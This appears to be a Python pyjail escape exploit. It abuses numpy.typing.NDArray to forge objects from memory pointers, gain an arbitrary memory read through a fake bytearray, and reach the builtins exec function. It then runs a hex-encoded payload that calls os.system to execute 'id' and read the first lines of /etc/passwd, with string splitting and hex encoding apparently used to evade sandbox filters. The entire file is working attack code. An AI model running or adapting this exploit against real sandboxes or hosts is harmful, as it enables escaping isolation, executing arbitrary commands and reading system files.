# source: numpy.typing.NDArray (types.GenericAlias of np.ndarray, callable); object-array tobytes() pointer leak; fake-bytearray arbitrary read (classic CPython memory-corruption pyjail technique)
# family: typing alias of ndarray is callable -> ndarray(shape, object, buffer) -> forged objects -> builtins exec
# goal: builtins exec of hex-encoded text -> os.system("id; head -2 /etc/passwd")
import numpy as np
import numpy.typing as npt


def probe():
    return 1


def where(obj):
    return int.from_bytes(np.array([obj], dtype=object).tobytes(), "little")


def as_object(ptr):
    return npt.NDArray((1,), object, ptr.to_bytes(8, "little"))[0]


kind = where(bytearray)
fake = b"".join(v.to_bytes(8, "little") for v in (1 << 20, kind, 1 << 60, 1 << 60, 0, 0, 0, 0))
mem = as_object(where(fake) + 32)
addr = int(repr(probe).split()[-1][:-1], 16)
table = as_object(int.from_bytes(mem[addr + 24:addr + 32], "little"))
run = table["ex" + "ec"]
run(bytes.fromhex("696d706f7274206f733b206f732e73797374656d282269643b2068656164202d32202f6574632f7061737377642229").decode())
